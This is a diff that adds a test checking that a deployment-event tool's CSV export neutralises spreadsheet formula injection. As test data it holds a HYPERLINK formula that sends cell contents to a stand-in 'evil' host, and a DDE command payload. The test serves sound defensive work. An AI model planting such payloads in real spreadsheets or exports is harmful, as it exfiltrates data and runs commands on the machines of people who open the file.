@@ -121,6 +121,24 @@ def test_export_writes_every_column_of_every_event_in_arrival_order(client, toke
     assert by_name[1]["scm_sha"] == ""
 
 
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, token, db_path, tmp_path):
+    evil = '=HYPERLINK("http://evil/"&A1,"x")'
+    resp = client.post("/deployment-events/", headers=auth(token), json={
+        "product_name": evil, "version": "-2+3", "environment_name": "production", "status": "success",
+        "deployed_by": "@admin", "summary": "+cmd|' /C calc'!A0"})
+    assert resp.status_code == 200, resp.text
+    target = tmp_path / "events.csv"
+    assert run_cli("export", "--format", "csv", "--output", str(target), "--db", str(db_path))[0] == 0
+    [header, row] = list(csv.reader(io.StringIO(target.read_text())))
+    cell = dict(zip(header, row, strict=True))
+    assert (cell["product"], cell["version"], cell["actor"]) == ("'" + evil, "'-2+3", "'@admin")
+    assert cell["summary"] == "'+cmd|' /C calc'!A0"
+    assert cell["environment"] == "production" and cell["seq"] == "1"  # plain cells and numbers untouched
+    # JSON Lines is data, not a spreadsheet: kept exactly, and what import reads back.
+    [line] = run_cli("export", "--db", str(db_path))[1].splitlines()
+    assert json.loads(line)["product"] == evil
+
+
 # -- import ----------------------------------------------------------------------------------
 
 
